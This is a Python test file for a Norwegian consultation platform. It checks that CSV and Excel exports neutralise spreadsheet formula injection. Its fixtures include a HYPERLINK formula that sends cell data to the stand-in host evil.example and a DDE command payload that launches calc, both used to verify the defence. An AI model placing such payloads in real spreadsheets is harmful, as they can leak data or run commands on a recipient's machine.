"""Spreadsheets the platform writes cannot carry formulas (OWASP CSV injection)."""

import csv
import io

import openpyxl
import pandas as pd
import pytest

from livskraft.web.downloads import csv_bytes, xlsx_bytes

# What a participant or respondent could type; each starts with a character a spreadsheet
# would treat as the start of a formula or a control character.
HOSTILE = ['=HYPERLINK("https://evil.example/?x="&A2,"Klikk")', "+47 999 99 999", "-2+3",
           "@SUM(A1:A9)", "\tTAB", "\rCR", "=1+1"]
HARMLESS = ["Bredbånd i hele kommunen", "1=1 er sant", ""]


def frame() -> pd.DataFrame:
    texts = HOSTILE + HARMLESS
    return pd.DataFrame({"tekst": texts, "tall": [-2, 0, 3, 4, 5, 6, 7, 8, 9, 10],
                         "snitt": [1.5, -0.25, None, 2, 2, 2, 2, 2, 2, 2]})


def test_csv_text_that_would_run_gets_a_leading_quote_and_numbers_are_untouched():
    rows = list(csv.reader(io.StringIO(csv_bytes(frame()).decode("utf-8"), newline="")))
    assert rows[0] == ["tekst", "tall", "snitt"]
    assert [r[0] for r in rows[1:]] == ["'" + text for text in HOSTILE] + HARMLESS
    assert [r[1] for r in rows[1:]] == ["-2", "0", "3", "4", "5", "6", "7", "8", "9", "10"]
    assert [r[2] for r in rows[1:4]] == ["1.5", "-0.25", ""]


def test_xlsx_has_no_formula_keeps_the_text_and_numbers_stay_numbers():
    book = openpyxl.load_workbook(io.BytesIO(xlsx_bytes({"Ark": frame(), "Tomt": frame()[:0]})))
    assert book.sheetnames == ["Ark", "Tomt"]
    sheet = book["Ark"]
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    rows = list(sheet.iter_rows(values_only=True))
    assert [r[0] for r in rows[1:len(HOSTILE) + 1]] == HOSTILE  # kept exactly, as text
    for row in sheet.iter_rows(min_row=2, max_row=len(HOSTILE) + 1):
        assert row[0].data_type == "s" and row[0].quotePrefix
    assert [r[1] for r in rows[1:]] == [-2, 0, 3, 4, 5, 6, 7, 8, 9, 10]
    assert all(isinstance(r[1], int) for r in rows[1:])
    assert rows[1][2] == 1.5 and rows[2][2] == -0.25 and rows[3][2] is None


def test_a_hostile_column_name_is_neutralised_too():
    table = pd.DataFrame({"=cmd|' /C calc'!A0": [1]})
    assert csv_bytes(table).decode().splitlines()[0] == "'=cmd|' /C calc'!A0"
    sheet = openpyxl.load_workbook(io.BytesIO(xlsx_bytes({"a": table}))).active
    assert sheet["A1"].data_type == "s" and sheet["B1"].value is None


@pytest.mark.django_db
def test_the_committee_export_of_a_hostile_answer_has_no_formula(client, settings):
    from django.contrib.auth.models import User

    from livskraft.consultations.models import Membership
    from livskraft.places.models import Municipality
    from tests.consultations.conftest import make_consultation
    from tests.consultations.test_committee import submit

    settings.ALLOWED_HOSTS = ["testserver"]
    Municipality.objects.create(vintage=2024, code="9901", name="Testvik", county_code="99",
                                county_name="Prøvefylke")
    consultation = make_consultation()
    attack = '=HYPERLINK("https://evil.example/?x="&A2,"Klikk")'
    submit(consultation, text=attack, respondent_type="organisation", organisation="@lag")
    owner = User.objects.create_user("eier", password="x")
    Membership.objects.create(user=owner, consultation=consultation, role="owner")
    client.force_login(owner)
    content = client.get(f"/horing/{consultation.slug}/analyse/innspill.xlsx").content
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    assert not [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"]
    header, row = list(sheet.iter_rows(values_only=True))
    assert row[header.index("svar")] == attack and row[header.index("organisasjon")] == "@lag"
    assert isinstance(row[header.index("innspill")], int)
